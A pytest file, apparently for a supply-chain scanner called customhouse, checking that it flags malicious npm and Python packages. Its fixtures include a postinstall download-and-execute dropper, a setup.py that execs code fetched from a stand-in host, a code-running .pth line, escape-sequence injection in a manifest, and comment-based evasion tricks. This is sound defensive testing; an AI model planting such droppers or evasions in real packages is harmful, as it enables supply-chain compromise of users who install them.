"""`customhouse inspect` and `explain` from outside: releases, archives, folders, comparisons."""

import json
from datetime import UTC, datetime

import pytest

from pipeline.projects import rules_of
from simulator import npm_tarball, sdist, wheel

OLD = datetime(2024, 1, 1, tzinfo=UTC)
PAYLOAD = """\
const { execSync } = require('child_process');
const https = require('https');
const fs = require('fs');
https.get('https://files.replica.invalid/stage2', (response) => {
  response.on('data', (part) => { fs.appendFileSync('/tmp/replica.sh', part); });
  response.on('end', () => execSync('sh /tmp/replica.sh'));
});
"""
HOOKED = {"name": "replica", "version": "1.0.1", "scripts": {"postinstall": "node setup.js"}}


@pytest.fixture
def write(tmp_path):
    def file(name, data):
        path = tmp_path / name
        path.write_bytes(data)
        return path

    return file


def test_a_clean_archive_is_allowed_without_any_registry(customhouse, registry, write):
    path = write("good-1.0.0.tgz", npm_tarball({"index.js": "exports.a = 1\n"}, {"name": "good", "version": "1.0.0"}))
    outcome = customhouse("inspect", path, "--format", "json")
    assert outcome.code == 0
    assert outcome.json["schema"] == "customhouse/inspect/1"
    assert outcome.json["purl"] == "pkg:npm/good@1.0.0"
    assert registry.requests == []


@pytest.mark.parametrize(
    "hiding",
    ["", "const open = '/*';\n", "const open = `/*`; const close = /\\/\\*/;\n", "// */ /* \n", "const s = '//';"],
)
def test_a_string_that_looks_like_a_comment_changes_nothing(customhouse, write, hiding):
    plain = write("plain.tgz", npm_tarball({"setup.js": PAYLOAD}, HOOKED))
    hidden = write("hidden.tgz", npm_tarball({"setup.js": hiding + PAYLOAD}, HOOKED))
    seen, expected = (customhouse("inspect", path, "--format", "json") for path in (hidden, plain))
    assert seen.code == expected.code
    assert seen.code in (10, 20)
    assert rules_of(seen.json) == rules_of(expected.json)
    assert "install-time-download-and-run" in rules_of(seen.json)


@pytest.mark.parametrize("hiding", ["", 'MARK = \'"""\'\n', "MARK = \"'''\"\n", "MARK = '#'  # '''\n"])
def test_a_string_that_looks_like_a_docstring_changes_nothing(customhouse, write, hiding):
    setup = (
        "import urllib.request\nfrom setuptools import setup\n"
        "exec(urllib.request.urlopen('https://files.replica.invalid/x').read())\nsetup(name='replica', version='1')\n"
    )
    plain = write("replica-1.tar.gz", sdist("replica", "1", {"setup.py": setup}))
    hidden = write("replica-2.tar.gz", sdist("replica", "1", {"setup.py": hiding + setup}))
    seen, expected = (customhouse("inspect", path, "--format", "json") for path in (hidden, plain))
    assert seen.code == expected.code == 20
    assert rules_of(seen.json) == rules_of(expected.json)


def test_after_against_before_offline(customhouse, registry, write):
    manifest = {"name": "lib", "version": "1.0.0", "dependencies": {"known": "^1.0.0"}}
    before = write("before.tgz", npm_tarball({"index.js": "require('known')\n"}, manifest))
    manifest = {**manifest, "version": "1.0.1", "dependencies": {"known": "^1.0.0", "plain-crypto": "^4.2.1"}}
    after = write("after.tgz", npm_tarball({"index.js": "require('known')\n"}, manifest))
    outcome = customhouse("inspect", after, "--against", before, "--offline", "--format", "json")
    assert "dependency-never-imported" in rules_of(outcome.json)
    assert outcome.code in (4, 10, 20)
    assert registry.requests == []


def test_after_against_before_asks_the_registry_about_the_new_dependency(customhouse, registry, write):
    registry.npm.publish("fresh", "1.0.0", scripts={"postinstall": "node x.js"}, published=datetime.now(UTC))
    before = write("before.tgz", npm_tarball({"index.js": "1\n"}, {"name": "lib", "version": "1.0.0"}))
    manifest = {"name": "lib", "version": "1.0.1", "dependencies": {"fresh": "^1.0.0"}}
    after = write("after.tgz", npm_tarball({"index.js": "1\n"}, manifest))
    outcome = customhouse("inspect", after, "--against", before, "--format", "json")
    assert outcome.code == 20
    assert {"dependency-never-imported", "risky-new-dependency"} <= rules_of(outcome.json)


def test_a_release_against_one_that_the_user_names(customhouse, registry):
    for version, files in (("1.0.0", {}), ("1.1.0", {}), ("1.2.0", {"setup.js": PAYLOAD})):
        registry.npm.publish(
            "lib",
            version,
            files={"index.js": "1\n", **files},
            scripts={"postinstall": "node setup.js"} if files else {},
            published=OLD,
        )
    for against in ("pkg:npm/lib@1.0.0", None):
        words = ("--against", against) if against else ()
        outcome = customhouse("inspect", "pkg:npm/lib@1.2.0", *words, "--format", "json")
        assert outcome.code == 20
        assert "install-script-added" in rules_of(outcome.json)
    other = customhouse("inspect", "pkg:npm/lib@1.2.0", "--against", "pkg:npm/other@1.0.0")
    assert (other.code, "hint:" in other.stderr) == (2, True)


def test_a_local_archive_against_a_release_and_the_other_way_round(customhouse, registry, write):
    old = registry.npm.publish("lib", "1.0.0", files={"index.js": "1\n"}, published=OLD)
    registry.npm.publish("lib", "1.0.1", files={"index.js": "1\n", "x.node": "\x7fELF"}, published=OLD)
    local = write("lib-1.0.1.tgz", npm_tarball({"setup.js": PAYLOAD}, {**HOOKED, "name": "lib"}))
    outcome = customhouse("inspect", local, "--against", "pkg:npm/lib@1.0.0", "--format", "json")
    assert "install-script-added" in rules_of(outcome.json)
    before = write("lib-1.0.0.tgz", old)
    release = customhouse("inspect", "pkg:npm/lib@1.0.1", "--against", before, "--format", "json")
    assert "native-binary-added" in rules_of(release.json)


def test_folders_wheels_and_sdists(customhouse, tmp_path, write):
    folder = tmp_path / "package"
    folder.mkdir()
    (folder / "package.json").write_text(json.dumps(HOOKED))
    (folder / "setup.js").write_text(PAYLOAD)
    assert customhouse("inspect", folder).code in (10, 20)
    line = "import os, subprocess, sys; subprocess.Popen([sys.executable, '-c', 'pass'])\n"
    path = write("lib-1.0-py3-none-any.whl", wheel("lib", "1.0", {"lib/__init__.py": "", "lib.pth": line}))
    outcome = customhouse("inspect", path, "--format", "json")
    assert (outcome.code, rules_of(outcome.json)) == (20, {"pth-runs-code"})
    clean = write("lib-1.0.tar.gz", sdist("lib", "1.0", {"lib/__init__.py": "VALUE = 1\n"}))
    assert customhouse("inspect", clean, "--format", "json").json["purl"] == "pkg:pypi/lib@1.0"


@pytest.mark.parametrize(
    ("target", "code"),
    [("pkg:npm/lib", 2), ("pkg:gem/lib@1", 2), ("nowhere.tgz", 2), ("pkg:npm/nobody@1.0.0", 4), ("notes.txt", 2)],
)
def test_targets_that_cannot_be_inspected_are_explained(customhouse, tmp_path, target, code):
    (tmp_path / "notes.txt").write_text("hello")
    outcome = customhouse("inspect", target, cwd=tmp_path)
    assert outcome.code == code
    assert "hint:" in outcome.stdout + outcome.stderr


@pytest.mark.parametrize("data", [b"", b"x", b"\x1f\x8b" + bytes(40), b"PK\x03\x04" + bytes(40)])
@pytest.mark.parametrize("name", ["a-1.tgz", "a-1-py3-none-any.whl", "a-1.tar.gz"])
def test_what_is_no_archive_is_never_allowed(customhouse, write, name, data):
    outcome = customhouse("inspect", write(name, data), "--format", "json")
    assert outcome.code in (4, 10, 20)
    assert outcome.json["verdict"] != "allow"


def test_explain_a_rule_and_a_release(customhouse, write):
    page = customhouse("explain", "risky-new-dependency")
    assert page.code == 0
    assert "Known evasions" in page.stdout
    path = write("hooked.tgz", npm_tarball({"setup.js": PAYLOAD}, HOOKED))
    release = customhouse("explain", path)
    assert release.code in (10, 20)
    assert "install-time-download-and-run" in release.stdout
    assert "policy." in release.stdout
    unknown = customhouse("explain", "no-such-rule")
    assert (unknown.code, "hint:" in unknown.stderr) == (2, True)


def test_hidden_control_characters_do_not_reach_the_terminal(customhouse, write):
    manifest = {"name": "evil", "version": "1.0.0\x1b[2J", "scripts": {"postinstall": "echo \x1b]0;x\x07"}}
    outcome = customhouse("inspect", write("evil.tgz", npm_tarball({"a.js": "1"}, manifest)), "--verbose")
    assert "\x1b" not in outcome.stdout + outcome.stderr
    assert "\x07" not in outcome.stdout


def test_doctor_tries_everything(customhouse, registry):
    registry.npm.publish("left-pad", "1.3.0", published=OLD)
    registry.pypi.publish("six", "1.17.0", published=OLD)
    outcome = customhouse("doctor", "--format", "json")
    assert outcome.code == 0, outcome.stdout
    assert all(check["works"] for check in outcome.json["checks"])
    broken = customhouse("doctor", "--npm-registry", "http://127.0.0.1:9/")
    assert broken.code == 4
    assert "FAILS" in broken.stdout
